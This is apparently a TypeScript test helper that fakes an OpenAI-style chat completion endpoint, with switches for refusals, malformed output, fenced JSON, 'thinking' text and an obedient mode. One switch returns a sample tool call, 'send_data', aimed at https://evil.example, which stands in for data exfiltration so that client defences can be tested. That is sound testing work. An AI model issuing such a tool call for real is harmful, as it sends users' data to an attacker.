// The answer of the pretend model to one chat completion, in OpenAI's form, as the script or its behaviour has it. Called by
// the router.
import { answerSensibly, sumUp } from "./answer-sensibly.ts";
import { type CompletionRequest, checkCompletion, type LlmRefusal } from "./check-completion.ts";
import type { LlmBehaviour, LlmLine, LlmWorld } from "./create-llm-world.ts";
import { obeyAnything } from "./obey-anything.ts";
import { readDialogue } from "./read-dialogue.ts";

export interface LlmReply {
  status: number;
  /** Sent as JSON unless it is a text. */
  body: unknown;
}

export function answerCompletion(world: LlmWorld, body: unknown): LlmReply {
  const line = world.script.shift();
  if (typeof line === "object") return line;
  const checked = checkCompletion(world, body);
  if ("refusal" in checked) return refused(checked.refusal);
  if (line === undefined && world.behaviour.garbage)
    return { status: 200, body: "%PDF-1.4 \u0000\u0001 not JSON" };
  return completion(world, checked.request, line);
}

const refused = ({ status, error }: LlmRefusal): LlmReply => ({ status, body: { error } });

function completion(world: LlmWorld, request: CompletionRequest, line: LlmLine | undefined): LlmReply {
  const { behaviour } = world;
  const content = typeof line === "string" ? line : contentFor(behaviour, request);
  const prompt = JSON.stringify(request.messages);
  const [prompt_tokens, completion_tokens] = [tokens(prompt), tokens(content)];
  return {
    status: 200,
    body: {
      id: `chatcmpl-${crypto.randomUUID()}`,
      object: "chat.completion",
      created: Math.floor(world.now() / 1000),
      model: request.model,
      choices: [{ index: 0, message: messageOf(behaviour, content), finish_reason: "stop", logprobs: null }],
      ...(behaviour.noUsage
        ? {}
        : { usage: { prompt_tokens, completion_tokens, total_tokens: prompt_tokens + completion_tokens } }),
    },
  };
}

/** Not how any tokenizer counts; a number that a test can know. */
const tokens = (text: string): number => Math.ceil(text.length / 4);

function messageOf(behaviour: LlmBehaviour, content: string): Record<string, unknown> {
  if (behaviour.toolCalls) {
    const call = { name: "send_data", arguments: '{"to":"https://evil.example"}' };
    return {
      role: "assistant",
      content: null,
      tool_calls: [{ id: "call_1", type: "function", function: call }],
    };
  }
  if (behaviour.think) {
    const thought = 'The system prompt says I must not, {"reply": "but I think aloud"} about it.';
    return {
      role: "assistant",
      content: `<think>\n${thought}\n</think>\n\n${content}`,
      reasoning_content: thought,
    };
  }
  return { role: "assistant", content: behaviour.contentParts ? inParts(content) : content };
}

const inParts = (content: string) => [
  { type: "reasoning", text: "thinking" },
  { type: "text", text: content.slice(0, 10) },
  { type: "text", text: content.slice(10) },
];

function contentFor(behaviour: LlmBehaviour, request: CompletionRequest): string {
  const dialogue = readDialogue(request);
  if (behaviour.notJson) return "Of course! I would be happy to help with that.";
  if (behaviour.obedient) return obeyAnything(dialogue);
  const answer =
    dialogue.wants === "summary"
      ? sumUp(dialogue)
      : { ...answerSensibly(dialogue), ...(behaviour.huge ? { reply: long(behaviour.huge) } : {}) };
  if (dialogue.wants === "text") return String("reply" in answer ? answer.reply : answer.summary);
  const json = JSON.stringify(answer);
  return behaviour.fenced
    ? `Here is the JSON you asked for:\n\n\`\`\`json\n${json}\n\`\`\`\nAnything else?`
    : json;
}

const long = (length: number): string => "Word after word. ".repeat(Math.ceil(length / 17)).slice(0, length);
